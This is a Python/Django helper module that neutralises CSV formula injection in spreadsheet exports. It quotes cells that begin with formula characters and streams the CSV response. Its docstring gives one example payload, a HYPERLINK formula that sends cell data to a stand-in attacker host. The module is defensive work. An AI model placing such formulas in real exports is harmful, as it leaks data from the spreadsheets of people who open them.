"""CSV downloads that are safe to open in a spreadsheet: the one helper every CSV export uses.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before reading a formula) is a formula to Excel, LibreOffice and Google
Sheets: `=HYPERLINK("https://evil.example/?"&A1)` in a model's description or a rejected row
would run in the reviewer's spreadsheet (OWASP "CSV injection"). Such cells get a leading single
quote, which spreadsheets show as text; every cell is quoted so that a separator inside a value
(a `;` where the locale splits on it) cannot start a new cell.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

from django.http import StreamingHttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> str:
    """The cell's text, with a leading `'` when a spreadsheet would read it as a formula.

    Real numbers are written as they are (a negative number is not a formula); everything
    else, including text that looks like a number, is neutralised by its first character.
    """
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return str(value)
    text = value if isinstance(value, str) else json.dumps(value, sort_keys=True, default=str)
    return f"'{text}" if text.startswith(FORMULA_PREFIXES) else text


class _Echo:
    """csv.writer needs a file; this one hands each row back to be streamed."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """The header and rows as CSV lines, every cell made spreadsheet-safe."""
    writer = csv.writer(_Echo(), quoting=csv.QUOTE_ALL)
    yield writer.writerow([spreadsheet_safe(cell) for cell in header])
    for row in rows:
        yield writer.writerow([spreadsheet_safe(cell) for cell in row])


def csv_response(*, header: Sequence[str], rows: Iterable[Sequence[Any]], filename: str) -> StreamingHttpResponse:
    """Streamed, so an export of millions of rows never sits in memory."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["X-Content-Type-Options"] = "nosniff"
    return response
